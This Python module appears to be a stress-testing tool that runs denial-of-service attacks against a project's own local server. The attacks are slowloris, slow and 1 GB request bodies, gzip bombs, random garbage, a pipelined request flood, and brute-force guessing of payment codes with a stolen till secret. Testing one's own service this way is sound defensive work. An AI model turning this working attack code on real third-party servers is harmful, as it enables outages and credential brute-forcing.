"""The attackers: one process that does one of these things to a server of ours on this machine, for a while.

They run at the lowest priority: on the same machine they would take from the server what a real attacker takes from a
machine of its own. Reads one ``AttackOrder`` from standard input and writes an ``Attacked``.
"""

from __future__ import annotations

import asyncio
import os
import resource
import secrets
import sys
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from random import Random

import msgspec
import uvloop

from backend.auth import codes
from backend.kernel import clock

from .population import Population
from .requests import Requests

SLOTHS = 2_000
GUESSES = 10_000
HUGE = 2**30
PIECE = 65_536
RECONNECT_S = 0.5


# What a connection ends with that the server has closed; uvloop's word for a write on it is a RuntimeError.
_BROKEN = (OSError, TimeoutError, EOFError, RuntimeError, ValueError, asyncio.LimitOverrunError)


class AttackOrder(msgspec.Struct, kw_only=True):
    """What to do, and against whom; ``line_mbit`` Mbit/s at most, where it is not 0."""

    name: str
    seed: str
    host: str
    port: int
    seconds: float
    line_mbit: int = 0


class Attacked(msgspec.Struct, kw_only=True):
    """What was done: connections, bytes and requests sent, and what the server answered by status."""

    counts: dict[str, int]


class Attack:
    """One attack under way; its methods named in ``ATTACKS`` run until the time is over."""

    def __init__(self, order: AttackOrder) -> None:
        self._order = order
        self._loop = asyncio.get_running_loop()
        self._until = self._loop.time() + order.seconds
        self.counts: Counter[str] = Counter()
        self._kept: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
        self._line_free_at = 0.0

    def _left(self) -> float:
        return self._until - self._loop.time()

    @asynccontextmanager
    async def _line(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """A connection for a while."""
        reader, writer = await asyncio.open_connection(self._order.host, self._order.port)
        self.counts["connections"] += 1
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    @asynccontextmanager
    async def _kept_line(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """A connection that is kept for the next one who asks, while the server keeps it."""
        kept = self._kept.pop() if self._kept else None
        if kept is None or kept[1].is_closing() or kept[0].at_eof():
            kept = await asyncio.open_connection(self._order.host, self._order.port)
            self.counts["connections"] += 1
        yield kept
        self._kept.append(kept)

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        """Write once the line has carried what was written before."""
        if self._order.line_mbit:
            due = max(self._line_free_at, self._loop.time())
            self._line_free_at = due + len(data) * 8e-6 / self._order.line_mbit
            await asyncio.sleep(due - self._loop.time())
        writer.write(data)
        self.counts["bytes"] += len(data)

    async def _hear(self, reader: asyncio.StreamReader) -> None:
        """Count the status of one whole answer, or that none came."""
        status = "cut off"
        with suppress(*_BROKEN):
            async with asyncio.timeout(5):
                head = await reader.readuntil(b"\r\n\r\n")
                at = head.index(b"content-length: ") + 16
                await reader.readexactly(int(head[at : head.index(b"\r\n", at)]))
            status = head[9:12].decode("latin-1")
        self.counts[status] += 1

    async def _crowd(self, count: int, each: Callable[[], Awaitable[None]]) -> None:
        """So many at once, again and again; they come within two seconds."""

        async def one(number: int) -> None:
            await asyncio.sleep(number / count * min(2.0, self._order.seconds / 4))
            while self._left() > 0:
                with suppress(*_BROKEN):  # the server's answer to us
                    await each()
                await asyncio.sleep(RECONNECT_S)

        await asyncio.gather(*(one(number) for number in range(count)))

    async def _paced(self, per_second: float, each: Callable[[int], Awaitable[None]], at_most: int = 10**9) -> None:
        """So many a second, whether or not earlier ones have ended."""

        async def one(number: int) -> None:
            with suppress(*_BROKEN):
                await each(number)

        began = self._loop.time()
        running: set[asyncio.Task[None]] = set()
        for number in range(min(at_most, int(per_second * self._order.seconds))):
            await asyncio.sleep(began + number / per_second - self._loop.time())
            task = asyncio.ensure_future(one(number))
            running.add(task)
            task.add_done_callback(running.discard)
        await asyncio.gather(*running)

    async def _drip(self, first: bytes, more: bytes) -> None:
        async with self._line() as (reader, writer):
            await self._send(writer, first)
            while self._left() > 0:
                try:
                    async with asyncio.timeout(1.0):
                        if not await reader.read(PIECE):
                            return
                except TimeoutError:
                    await self._send(writer, more)

    async def slowloris(self) -> None:
        """Connections that send their headers a few bytes a second."""
        await self._crowd(SLOTHS, lambda: self._drip(b"GET /healthz HTTP/1.1\r\nHost: a\r\n", b"X: a\r\n"))

    async def slow_bodies(self) -> None:
        """Connections that stop in the middle of a large body and go on byte by byte."""
        head = b"POST /v1/member/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 200000"
        await self._crowd(SLOTHS, lambda: self._drip(head + b"\r\n\r\n" + b"x" * 100_000, b"x"))

    async def huge_bodies(self) -> None:
        """Bodies of 1 GB: announced, or in chunks without end, sent as fast as they are taken."""
        head = b"POST /v1/member/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        piece = b"x" * PIECE
        chunk = b"%x\r\n%b\r\n" % (PIECE, piece)

        async def one(number: int) -> None:
            announced = number % 2 == 0
            async with self._line() as (_, writer):
                length = b"Content-Length: %d" % HUGE if announced else b"Transfer-Encoding: chunked"
                await self._send(writer, head + length + b"\r\n\r\n")
                for _ in range(HUGE // PIECE):
                    await self._send(writer, piece if announced else chunk)
                    async with asyncio.timeout(5):
                        await writer.drain()
                    if self._left() <= 0:
                        return

        await self._paced(4, one)

    async def gzip_bombs(self) -> None:
        """Compressed bodies of 200 KB that unpack to 200 MB."""
        packer = zlib.compressobj(9, wbits=31)
        bomb = b"".join([*(packer.compress(bytes(2**20)) for _ in range(200)), packer.flush()])
        head = (
            b"POST /v1/member/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
            b"Content-Length: %d\r\n\r\n" % len(bomb)
        )

        async def one(_: int) -> None:
            async with self._line() as (reader, writer):
                await self._send(writer, head + bomb)
                await self._hear(reader)

        await self._paced(50, one)

    async def guessing(self) -> None:
        """10,000 codes tried with the secret of one till, where nobody buys: those of its customers would wait too."""
        requests = Requests(Population(self._order.seed), members=1, host="a", run=secrets.token_hex(4))
        till, random = requests.population.stolen_till, Random(self._order.seed)  # noqa: S311 - only to differ
        turns = asyncio.Semaphore(8)

        async def one(_number: int) -> None:
            step = codes.step_at(clock.now().timestamp())
            code = codes.make(random.randbytes(32), f"{random.randrange(10**9):09d}", step)
            requests.timestamp = clock.unix()
            request = requests.of_till(till, "POST", "/v1/pos/scan", b'{"code":"%s"}' % code.encode())
            async with turns, self._kept_line() as (reader, writer):
                await self._send(writer, request)
                await self._hear(reader)

        await self._paced(GUESSES / self._order.seconds, one, GUESSES)

    async def garbage(self) -> None:
        """Connections that send bytes which are no HTTP."""
        random = Random(self._order.seed)  # noqa: S311 - only to differ

        async def one(number: int) -> None:
            async with self._line() as (reader, writer):
                await self._send(writer, random.randbytes(1 + number % 4_000))
                await self._hear(reader)

        await self._paced(200, one)

    async def sent_ahead(self) -> None:
        """Thousands of requests sent before the first is answered, the answers never read."""

        async def one(_number: int) -> None:
            async with self._line() as (_, writer):
                await self._send(writer, b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 5_000)
                await asyncio.sleep(2)

        await self._paced(10, one)


ATTACKS: dict[str, tuple[str, Callable[[Attack], Awaitable[None]]]] = {
    "slowloris": ("2,000 sockets, headers byte by byte", Attack.slowloris),
    "slow-bodies": ("2,000 sockets, half a body each", Attack.slow_bodies),
    "huge-bodies": ("bodies of 1 GB, announced or chunked", Attack.huge_bodies),
    "gzip-bombs": ("200 KB that unpack to 200 MB, 50 a second", Attack.gzip_bombs),
    "guessing": ("10,000 codes tried with one till's secret", Attack.guessing),
    "garbage": ("200 connections a second, no HTTP", Attack.garbage),
    "sent-ahead": ("5,000 requests at once, answers unread", Attack.sent_ahead),
}
"""What each does, by name."""


async def _carry_out(order: AttackOrder) -> Attacked:
    attack = Attack(order)
    with suppress(TimeoutError):
        async with asyncio.timeout(order.seconds + 10):
            await ATTACKS[order.name][1](attack)
    return Attacked(counts=dict(attack.counts))


def main() -> None:
    """Carry out the order on standard input."""
    order = msgspec.json.decode(sys.stdin.buffer.read(), type=AttackOrder)
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sys.stdout.buffer.write(msgspec.json.encode(uvloop.run(_carry_out(order))))


if __name__ == "__main__":
    main()
